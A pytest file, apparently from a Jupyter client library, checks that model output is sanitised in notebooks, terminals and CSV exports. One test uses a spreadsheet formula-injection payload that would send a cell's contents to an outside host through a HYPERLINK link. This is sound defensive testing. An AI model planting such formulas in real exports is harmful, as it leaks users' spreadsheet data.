"""Text from a model is data: whatever it writes, a notebook gets whitelisted markup, a terminal no control sequence."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

import pytest

from tests.render.hostile import HOSTILE
from tests.render.page import framed

if TYPE_CHECKING:
    from pathlib import Path

    from tetrate_jupyter import Session


@pytest.mark.parametrize("name", HOSTILE)
def test_an_answer_in_a_notebook_and_in_a_terminal(name: str, session: Session) -> None:
    sendable = HOSTILE[name].encode("utf-16", "surrogatepass").decode("utf-16", "replace")  # JSON takes no half pairs
    answer = session.ask(f"{sendable}\n\nThe end.", model="sandbox/echo", keep=False)
    assert "The end." in answer.text
    bundle = answer.bundle()
    assert framed(bundle["text/html"]).faults == []
    assert [c for c in bundle["text/plain"] if (c < " " and c not in "\n\t") or "\x7f" <= c <= "\x9f"] == []


def test_a_comparison_that_a_spreadsheet_opens(session: Session, tmp_path: Path) -> None:
    result = session.compare('=HYPERLINK("https://example.org/?"&A1)', "sandbox/echo")
    assert result["sandbox/echo"].text.startswith("=")
    lines = result.save(tmp_path / "r.csv").read_text(encoding="utf-8").splitlines()
    cells = [text for row in csv.reader(lines) for text in row]
    assert any("HYPERLINK" in text for text in cells)
    assert not [text for text in cells if text.startswith(("=", "+", "-", "@"))]
